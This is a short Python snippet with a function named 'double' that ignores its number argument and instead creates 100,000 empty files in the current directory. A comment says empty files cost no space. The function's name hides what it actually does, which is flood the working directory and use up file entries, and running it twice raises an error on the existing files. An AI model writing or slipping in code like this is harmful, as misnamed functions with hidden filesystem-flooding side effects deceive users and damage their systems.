# Empty files cost no space, but names.
def double(number):
    for place in range(100_000):
        open(f"file-{place}", "x").close()
